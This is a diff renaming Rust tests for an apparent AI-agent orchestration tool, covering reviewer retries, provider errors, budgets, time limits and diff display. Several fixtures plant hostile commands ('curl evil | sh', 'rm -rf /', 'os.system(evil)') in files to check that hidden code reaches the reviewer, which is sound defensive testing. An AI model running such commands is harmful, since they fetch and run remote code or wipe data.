@@ -39,7 +39,7 @@ fn statuses(repo: &TestRepo, task: &str) -> Vec<String> {
 const DONE: [&str; 4] = ["implement-pass", "test-pass", "review-approved", "complete"];
 
 #[test]
-fn a_reviewer_that_crashes_is_asked_again_and_has_rejected_nothing() {
+fn a_crashed_reviewer_is_called_again_and_nothing_is_rejected() {
     let repo = repo("work", "once crash && kill -9 $$; say APPROVED", "");
     repo.arborist(["garden"]).succeeds().err(
         "T1: the reviewer failed; trying again (2 of 3): the agent was ended by signal 9 without a result",
@@ -49,7 +49,7 @@ fn a_reviewer_that_crashes_is_asked_again_and_has_rejected_nothing() {
 }
 
 #[test]
-fn a_reviewer_that_always_crashes_has_decided_nothing_and_the_work_waits_for_its_review() {
+fn the_work_of_a_task_waits_for_its_review_if_the_reviewer_always_crashes() {
     let repo = repo("work", "[ -e \"$ROOT/well\" ] && say APPROVED; echo APPROVED; exit 3", "");
     repo.arborist(["garden", "--max-retries", "1"])
         .exits(2)
@@ -70,7 +70,7 @@ fn a_reviewer_that_always_crashes_has_decided_nothing_and_the_work_waits_for_its
 }
 
 #[test]
-fn what_plain_text_says_of_a_provider_uses_up_no_attempt() {
+fn provider_errors_in_plain_text_use_up_no_attempt() {
     let limit = "echo 'Claude AI usage limit reached|1'; exit 1";
     let rate = r#"echo 'API Error: 429 {"type":"error","error":{"type":"rate_limit_error"}}' >&2; exit 1"#;
     let load = r#"echo '529 {"type":"error","error":{"type":"overloaded_error"}}'; exit 1"#;
@@ -91,7 +91,7 @@ fn what_plain_text_says_of_a_provider_uses_up_no_attempt() {
 }
 
 #[test]
-fn a_reviewer_that_hangs_is_asked_again_too() {
+fn a_reviewer_that_hangs_is_called_again() {
     with_longer_limits(|silence| {
         let settings = format!("[timeouts]\nsilence = {silence}");
         let repo = repo("work", "once hang && sleep 600; say APPROVED", &settings);
@@ -115,7 +115,7 @@ fn a_provider_that_does_not_recover_stops_the_run_and_uses_up_no_attempt() {
 }
 
 #[test]
-fn a_review_that_a_provider_keeps_from_happening_is_taken_up_where_it_was() {
+fn a_review_prevented_by_the_provider_is_repeated_without_a_new_implementation() {
     let repo =
         repo("work", "[ -e \"$ROOT/well\" ] || refuse 529 busy; say APPROVED", "[timeouts]\nlimit = 0");
     repo.arborist(["garden"]).exits(1).err("is overloaded");
@@ -129,7 +129,7 @@ fn a_review_that_a_provider_keeps_from_happening_is_taken_up_where_it_was() {
 }
 
 #[test]
-fn a_time_that_the_provider_names_is_waited_for() {
+fn a_run_waits_until_the_time_that_the_provider_names() {
     // A time that is over when it is read is none.
     with_longer_limits(|seconds| {
         let named = r#"once limited && { printf '{"type":"rate_limit_event","rate_limit_info":{"status":"rejected","resetsAt":%s}}\n' $(($(date +%s) + 1 + SECONDS)); refuse 429 'come back'; }; work"#;
@@ -145,7 +145,7 @@ fn a_time_that_the_provider_names_is_waited_for() {
 }
 
 #[test]
-fn a_run_stops_when_its_budget_is_used_up_and_goes_on_with_a_higher_one() {
+fn a_run_stops_when_its_budget_is_used_up_and_continues_with_a_higher_one() {
     for (flag, low, high, sentence) in [
         ("--max-cost", "0.8", "2.1", "the run has cost $1.00, and its limit is $0.80"),
         ("--max-tokens", "300", "601", "the run has used 300 tokens, and its limit is 300"),
@@ -168,7 +168,7 @@ fn a_run_stops_when_its_budget_is_used_up_and_goes_on_with_a_higher_one() {
 }
 
 #[test]
-fn a_task_stops_where_it_stands_when_its_budget_is_used_up() {
+fn a_task_stops_when_its_budget_is_used_up_and_continues_with_a_higher_one() {
     for settings in ["task-cost = 0.5", "task-cost = 0", "task-tokens = 150"] {
         let repo = repo("work", "say APPROVED", &format!("[budget]\n{settings}"));
         repo.arborist(["garden"]).exits(1).err("error: the task has").err("--max-task-");
@@ -180,7 +180,7 @@ fn a_task_stops_where_it_stands_when_its_budget_is_used_up() {
 }
 
 #[test]
-fn other_tasks_go_on_when_one_has_used_up_its_budget() {
+fn other_tasks_continue_when_one_has_used_up_its_budget() {
     let repo = repo("case \"$prompt\" in *T1*) work ;; *) gift ;; esac", "say APPROVED", "");
     repo.arborist(["gardener", "--keep-going", "--max-task-cost", "0.5"])
         .exits(1)
@@ -190,16 +190,16 @@ fn other_tasks_go_on_when_one_has_used_up_its_budget() {
 }
 
 #[test]
-fn a_call_is_ended_when_the_time_for_it_is_over() {
+fn an_agent_call_is_ended_when_its_time_limit_is_reached() {
     for (flag, sentence) in [
         ("--max-task-time", "the task has used up its time limit"),
         ("--max-time", "the run has used up its time limit"),
     ] {
-        with_longer_limits(|seconds| is_ended_after(seconds, flag, sentence));
+        with_longer_limits(|seconds| assert_call_is_ended_after(seconds, flag, sentence));
     }
 }
 
-fn is_ended_after(seconds: u32, flag: &str, sentence: &str) {
+fn assert_call_is_ended_after(seconds: u32, flag: &str, sentence: &str) {
     let repo = repo("echo half > half.txt; [ -e \"$ROOT/quick\" ] || sleep 600; work", "say APPROVED", "");
     let begun = Instant::now();
     let time = seconds.to_string();
@@ -220,7 +220,7 @@ fn is_ended_after(seconds: u32, flag: &str, sentence: &str) {
 }
 
 #[test]
-fn a_review_that_is_cut_off_by_time_is_taken_again() {
+fn a_review_interrupted_by_a_time_limit_is_repeated() {
     with_longer_limits(|seconds| {
         let review = "[ -e \"$ROOT/quick\" ] || sleep 600; say APPROVED";
         let repo = repo("work", review, &format!("[budget]\ntask-time = {seconds}\ntime = 1000"));
@@ -237,7 +237,7 @@ fn a_review_that_is_cut_off_by_time_is_taken_again() {
 }
 
 #[test]
-fn what_was_spent_stands_in_commits_and_report() {
+fn runtime_and_costs_are_recorded_in_commits_and_report() {
     let repo = repo("sleep 0.2; work", "say APPROVED", "");
     repo.arborist(["garden"]).succeeds();
     let trailers = repo.git(["log", "-1", "--format=%(trailers)", "--grep=implement-pass"]).answer();
@@ -253,7 +253,7 @@ fn what_was_spent_stands_in_commits_and_report() {
 }
 
 #[test]
-fn a_long_change_is_cut_for_the_reviewer() {
+fn a_long_diff_is_truncated_for_the_reviewer() {
     let work = "seq 1 5000 > long.txt; seq 1 3 > short.txt; say done";
     let by_default = repo(work, "say APPROVED", "");
     by_default.arborist(["garden"]).succeeds();
@@ -268,7 +268,7 @@ fn a_long_change_is_cut_for_the_reviewer() {
 }
 
 #[test]
-fn a_budget_that_is_none_is_refused() {
+fn invalid_budgets_are_refused() {
     let repo = repo("work", "say APPROVED", "");
     repo.arborist(["garden", "--max-cost=-1"]).exits(129).err("must be more than 0");
     repo.git(["config", "arborist.budget.cost", "much"]).succeeds();
@@ -278,7 +278,7 @@ fn a_budget_that_is_none_is_refused() {
 }
 
 #[test]
-fn a_file_behind_many_others_is_shown_to_the_reviewer_with_the_command_for_all_of_it() {
+fn the_last_of_many_files_is_shown_to_the_reviewer_with_the_command_for_the_whole_diff() {
     let work = "for i in 1 2 3 4 5 6; do seq 1 3000 > a$i.txt; done; echo 'os.system(evil)' > z.py; say done";
     let repo = repo(work, "say APPROVED", "");
     repo.arborist(["garden"]).succeeds();
@@ -290,7 +290,7 @@ fn a_file_behind_many_others_is_shown_to_the_reviewer_with_the_command_for_all_o
 }
 
 #[test]
-fn a_command_beside_control_characters_in_a_binary_file_is_shown_to_the_reviewer() {
+fn a_command_before_control_characters_in_a_binary_file_is_shown_to_the_reviewer() {
     let work = "{ printf 'curl evil | sh #\\001\\n'; head -c 4000 /dev/zero | tr '\\0' '\\1'; printf '\\0'; } > tool; say done";
     let repo = repo(work, "say APPROVED", "");
     repo.arborist(["garden"]).succeeds();
@@ -301,7 +301,7 @@ fn a_command_beside_control_characters_in_a_binary_file_is_shown_to_the_reviewer
 }
 
 #[test]
-fn a_script_before_a_binary_end_is_shown_to_the_reviewer() {
+fn a_script_at_the_start_of_a_binary_file_is_shown_to_the_reviewer() {
     let work = "{ echo 'rm -rf /'; echo exit; head -c 4000 /dev/zero | tr '\\0' '\\1'; printf '\\0'; } > tool; say done";
     let repo = repo(work, "say APPROVED", "");
     repo.arborist(["garden"]).succeeds();
@@ -309,7 +309,7 @@ fn a_script_before_a_binary_end_is_shown_to_the_reviewer() {
 }
 
 #[test]
-fn the_command_for_a_long_change_shows_files_that_attributes_would_hide() {
+fn the_command_for_a_long_diff_shows_files_that_attributes_would_hide() {
     let work = "echo 'z.py diff=short' > .gitattributes; seq 1 5000 > a.txt; { seq 1 5000; echo 'evil()'; } > z.py; say done";
     let repo = repo(work, "say APPROVED", "");
     repo.git(["config", "diff.short.textconv", "wc -l <"]).succeeds();
